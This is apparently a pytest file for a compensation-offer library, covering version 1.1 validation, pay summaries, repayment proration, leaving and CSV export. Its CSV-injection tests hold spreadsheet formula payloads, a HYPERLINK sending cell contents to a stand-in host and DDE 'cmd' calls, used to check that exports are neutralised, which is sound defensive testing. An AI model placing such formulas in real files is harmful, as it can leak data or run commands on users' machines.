"""Contract version 1.1, cash side (issue #23): the version rule, the new parts, their figures, leaving."""

from __future__ import annotations

import copy
import csv
import datetime
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tokencomp import (
    Commission,
    Money,
    Offer,
    Repayment,
    Role,
    RuleViolation,
    Salary,
    SalaryPeriod,
    jsonld,
    leave,
    leaving_json,
    load_posting,
    loads,
    read_csv,
    repayment_owed,
    summarize,
    unstructure,
    validate,
    write_csv,
)
from tokencomp.codec.validation import _validate_offer_fully
from tokencomp.importers.csv import csv_losses

from .reference import SPEC_EXAMPLES
from .strategies import CURRENCIES, dates, money, offers_1_1, repayments

POSTING = Path(__file__).parents[1] / "src" / "tokencomp" / "data" / "postings" / "staff-engineer.json"
BERLIN = SPEC_EXAMPLES.excerpt / "valid" / "berlin-sales-ote-v1.1.json"


def berlin() -> dict[str, Any]:
    document: dict[str, Any] = json.loads(BERLIN.read_bytes())
    return document


def problems(document: dict[str, Any]) -> list[tuple[str, str]]:
    """The problems of *document* on the fast path, after checking the reference path gives the same."""
    text = json.dumps(document)
    fast = [(p.pointer, p.code) for p in validate(text).problems]
    reference = [(p.pointer, p.code) for p in _validate_offer_fully(text, 1 << 20, reference=True).problems]
    assert fast == reference
    return fast


class TestVersionRule:
    """A "1" document with a 1.1 key is refused by its version, at the key's pointer."""

    def test_every_new_key_needs_version_1_1(self) -> None:
        """Each version 1.1 key of the berlin example is a needs-version-1.1 problem in a "1" document."""
        document = berlin()
        document["schema_version"] = "1"
        document["token_budget"]["personal_use"] = False
        expected = [
            ("/allowances", "needs-version-1.1"),
            ("/benefits", "needs-version-1.1"),
            ("/commission", "needs-version-1.1"),
            ("/one_time", "needs-version-1.1"),
            ("/role/region", "needs-version-1.1"),
            ("/token_budget/personal_use", "needs-version-1.1"),
        ]
        assert expected == sorted(problems(document))

    def test_unknown_version(self) -> None:
        """A version neither "1" nor "1.1" is refused."""
        document = berlin() | {"schema_version": "2"}
        assert [("/schema_version", "unsupported-version")] == problems(document)

    def test_public_constructor_says_the_same(self) -> None:
        """An offer built in code with a commission and version "1" is refused as a document is."""
        salary = Salary(Money("1.00", "EUR"), SalaryPeriod.YEAR)
        commission = Commission(target=Money("1.00", "EUR"))
        with pytest.raises(RuleViolation) as raised:
            Offer("x", datetime.date(2026, 1, 1), "EUR", salary, commission=commission)
        assert ["needs-version-1.1"] == [p.code for p in raised.value.problems]


class TestRules:
    """The rules of the new parts, on both validation paths."""

    @pytest.mark.parametrize(
        ("change", "expected"),
        [
            (lambda d: d["role"].update(region="FR-75"), [("/role/region", "region-not-in-country")]),
            (lambda d: d["role"].update(region="de-be"), [("/role/region", "bad-pattern")]),
            (lambda d: d["commission"].update(cap_percent="99.99"), [("/commission/cap_percent", "cap-below-target")]),
            (
                lambda d: d["one_time"][0]["repayment"].update(months=601),
                [("/one_time/0/repayment/months", "months-out-of-range")],
            ),
            (
                lambda d: d["one_time"][0]["repayment"].pop("prorated"),
                [("/one_time/0/repayment/prorated", "missing-key")],
            ),
            (lambda d: d.update(allowances=d["allowances"] * 21), [("/allowances", "too-many-items")]),
            (lambda d: d.update(benefits=d["benefits"] * 26), [("/benefits", "too-many-items")]),
        ],
    )
    def test_refused(self, change: Any, expected: list[tuple[str, str]]) -> None:
        """Each broken rule is one problem at its pointer."""
        document = berlin()
        change(document)
        actual = problems(document)
        assert [pointer for pointer, _ in expected] == [pointer for pointer, _ in actual]
        if expected[0][1] != "bad-pattern":  # the pattern's code is the schema layer's wording
            assert expected == actual

    def test_sign_on_twice(self) -> None:
        """bonus.sign_on and a one-time sign-on in one document is sign-on-twice."""
        document = berlin()
        document["bonus"] = {"target_percent": "0", "sign_on": {"amount": "1.00", "currency": "EUR"}}
        document["one_time"][0]["kind"] = "sign_on"
        assert [("/one_time/0/kind", "sign-on-twice")] == problems(document)

    def test_fifty_benefits_are_allowed(self) -> None:
        """The limits are the contract's: 50 benefits pass."""
        document = berlin()
        document["benefits"] = document["benefits"] * 25
        assert [] == problems(document)


class TestSummary:
    """The version 1.1 figures add up, in every currency."""

    def test_berlin(self) -> None:
        """The acceptance example: every figure of its summary file."""
        expected = json.loads(BERLIN.with_name("berlin-sales-ote-v1.1.summary.json").read_bytes())
        actual = unstructure(summarize(loads(BERLIN.read_bytes())))
        for block in ("annual", "first_year"):
            assert expected[block] == {k: actual[block][k] for k in expected[block]}

    @given(offers_1_1(), st.sampled_from(CURRENCIES))
    def test_totals_add_up(self, offer: Offer, currency: str) -> None:
        """total_rewards = total_compensation + benefits; fully_loaded_cost = total_rewards + token_budget."""
        summary = summarize(offer, currency=currency, as_of=datetime.date(2026, 4, 1))
        for figures in (summary.annual, summary.first_year):
            assert figures.total_rewards == figures.total_compensation + figures.benefits
            assert figures.fully_loaded_cost == figures.total_rewards + figures.token_budget
            assert figures.total_compensation == figures.cash + figures.equity
        annual = summary.annual
        assert annual.target_total_cash == annual.salary + annual.bonus + annual.commission
        assert annual.cash == annual.target_total_cash + annual.allowances
        assert summary.first_year.cash == annual.cash + summary.first_year.one_time
        assert summary.first_year.sign_on <= summary.first_year.one_time

    @given(offers_1_1())
    def test_round_trip(self, offer: Offer) -> None:
        """A version 1.1 offer written out and read back is the same offer."""
        assert offer == loads(json.dumps(unstructure(offer)))


class TestRepayment:
    """The contract's repayment rule, to the minor unit."""

    @given(money(), dates, repayments, st.integers(-30, 20000), st.integers(1, 400))
    def test_bounded_and_falling(
        self, amount: Money, paid_on: datetime.date, terms: Repayment, after: int, later: int
    ) -> None:
        """Never negative nor above the amount, and never more on a later day."""
        day = paid_on + datetime.timedelta(days=after)
        owed = repayment_owed(amount, paid_on, terms, day)
        assert Decimal(0) <= owed.amount <= amount.rounded().amount
        assert repayment_owed(amount, paid_on, terms, day + datetime.timedelta(days=later)).amount <= owed.amount

    def test_prorated_by_days(self) -> None:
        """8000 paid 2026-07-31 over 24 months, leaving 2027-07-31: 8000 × 366 / 731, half up."""
        terms = Repayment(months=24, prorated=True, separate_agreement=True)
        owed = repayment_owed(Money("8000.00", "EUR"), datetime.date(2026, 7, 31), terms, datetime.date(2027, 7, 31))
        assert Money("4005.47", "EUR") == owed

    def test_not_prorated_then_nothing(self) -> None:
        """Not prorated: the whole amount until the end, nothing from it on."""
        terms = Repayment(months=12, prorated=False, separate_agreement=False)
        paid = datetime.date(2026, 1, 31)
        assert Money("500", "JPY") == repayment_owed(Money("500", "JPY"), paid, terms, datetime.date(2027, 1, 30))
        assert Money("0", "JPY") == repayment_owed(Money("500", "JPY"), paid, terms, datetime.date(2027, 1, 31))


class TestLeave:
    """tokencomp.leave and the leave command."""

    def test_berlin_json(self) -> None:
        """The issue's JSON shape, money as decimal strings."""
        result = leaving_json(leave(loads(BERLIN.read_bytes()), on=datetime.date(2027, 7, 31)))
        assert {"offer_id", "on", "currency", "grants", "repayments", "token_budget"} <= set(result)
        assert [{"pointer": "/one_time/0", "owed": "4005.47"}] == [
            {k: r[k] for k in ("pointer", "owed")} for r in result["repayments"]
        ]
        assert "forfeited" in result["token_budget"]

    def test_version_1_clawback_says_it_is_not_prorated(self) -> None:
        """Version 1's clawback is owed whole, and the output says version 1 does not state proration."""
        document = copy.deepcopy(berlin())
        for key in ("commission", "allowances", "benefits", "one_time"):
            del document[key]
        del document["role"]["region"]
        document |= {
            "schema_version": "1",
            "bonus": {
                "target_percent": "0",
                "sign_on": {"amount": "9.99", "currency": "EUR"},
                "sign_on_clawback_months": 12,
            },
        }
        (owed,) = leave(loads(json.dumps(document)), on="2027-06-30").repayments
        assert ("/bonus/sign_on", Money("9.99", "EUR")) == (owed.pointer, owed.owed)
        assert owed.note is not None
        assert "does not state proration" in owed.note

    def test_command(self) -> None:
        """tokencomp leave OFFER --on DATE --format json."""
        done = subprocess.run(
            [sys.executable, "-m", "tokencomp", "leave", str(BERLIN), "--on", "2027-07-31", "--format", "json"],
            capture_output=True,
            text=True,
            check=False,
        )
        assert 0 == done.returncode, done.stderr
        assert "4005.47" == json.loads(done.stdout)["repayments"][0]["owed"]


class TestAdvisories:
    """stay-or-pay (California AB 692) and repayment-interest."""

    def codes(self, document: dict[str, Any]) -> list[tuple[str, Any]]:
        summary = summarize(loads(json.dumps(document)))
        return [(a.code, a.figure) for a in summary.advisories if a.code in ("stay-or-pay", "repayment-interest")]

    def test_every_condition_not_met(self) -> None:
        """Over 24 months, not prorated, with interest, no separate agreement: all four named, and the law."""
        document = berlin()
        document["role"] = {"country": "US", "region": "US-CA"}
        document["one_time"][0]["repayment"] = {
            "months": 36,
            "prorated": False,
            "separate_agreement": False,
            "interest_percent": "5",
        }
        assert [("stay-or-pay", 15), ("repayment-interest", Decimal(5))] == self.codes(document)
        message = next(a.message for a in summarize(loads(json.dumps(document))).advisories if a.code == "stay-or-pay")
        assert "AB 692" in message
        assert "it is not prorated" in message

    def test_allowed_terms_and_other_states(self) -> None:
        """The berlin terms in California fire nothing; harsh terms outside California fire no stay-or-pay."""
        document = berlin()
        document["role"] = {"country": "US", "region": "US-CA"}
        assert [] == self.codes(document)
        document["role"] = {"country": "US", "region": "US-NY"}
        document["one_time"][0]["repayment"]["prorated"] = False
        assert [] == self.codes(document)

    def test_version_1_clawback_in_california(self) -> None:
        """A sign-on clawback, whose proration version 1 does not state, in US-CA."""
        document = berlin()
        del document["one_time"]
        document["role"] = {"country": "US", "region": "US-CA"}
        document["bonus"] = {
            "target_percent": "0",
            "sign_on": {"amount": "1.00", "currency": "EUR"},
            "sign_on_clawback_months": 12,
        }
        assert [("stay-or-pay", 16)] == self.codes(document)


class TestPosting:
    """A posting's commission range and benefits description reach the JSON-LD, the token budget apart."""

    def test_jsonld(self) -> None:
        """incentiveCompensation holds the commission range; jobBenefits the benefits, then the budget."""
        document = json.loads((POSTING).read_bytes())
        document["commission"] = {
            "min": {"amount": "20000.00", "currency": "USD"},
            "max": {"amount": "40000.00", "currency": "USD"},
        }
        document["benefits_description"] = "Medical, dental and vision cover."
        result = jsonld(load_posting(json.dumps(document)))
        assert "On-target commission of $20,000.00 to $40,000.00 a year." in result["incentiveCompensation"]
        assert result["jobBenefits"].startswith("Medical, dental and vision cover. An AI inference token budget")


FORMULAS = (
    '=HYPERLINK("http://x.example/"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "'=1",
    "''+2",
)


class TestCsvInjection:
    """export-csv neutralises cells a spreadsheet would run (OWASP), and import reads them back exactly."""

    def offer(self, text: str) -> Offer:
        salary = Salary(Money("1.00", "USD"), SalaryPeriod.YEAR)
        return Offer(text, "2026-04-01", "USD", salary, role=Role(title=text), metadata={"team": text})

    @pytest.mark.parametrize("text", FORMULAS)
    def test_neutralised_and_read_back(self, text: str) -> None:
        """No cell starts with a formula character; the offer reads back the same."""
        out = io.StringIO()
        write_csv([self.offer(text)], out)
        rows = list(csv.reader(io.StringIO(out.getvalue())))
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in rows[1])
        assert [self.offer(text)] == list(read_csv(out.getvalue()).offers)

    def test_raw(self) -> None:
        """With raw, the cells are written as they are."""
        out = io.StringIO()
        write_csv([self.offer("=1+1")], out, raw=True)
        assert "=1+1" == list(csv.reader(io.StringIO(out.getvalue())))[1][0]

    @given(st.sampled_from(["=", "+", "-", "@", "'", "''=", ""]), st.text(alphabet="=+-@'ab1 ", max_size=8))
    def test_round_trip(self, start: str, rest: str) -> None:
        """Any string, however many quotes and formula characters it starts with, comes back exactly."""
        out = io.StringIO()
        write_csv([self.offer(start + rest or "x")], out)
        assert [self.offer(start + rest or "x")] == list(read_csv(out.getvalue()).offers)

    @given(offers_1_1())
    def test_every_list_item_has_its_columns(self, offer: Offer) -> None:
        """Each one-time payment, allowance and benefit gets its columns: the CSV reads back the same lists."""
        out = io.StringIO()
        write_csv([offer], out)
        (back,) = read_csv(out.getvalue()).offers or (None,)
        if back is not None and not csv_losses(offer):
            assert (offer.one_time, offer.allowances, offer.benefits) == (back.one_time, back.allowances, back.benefits)
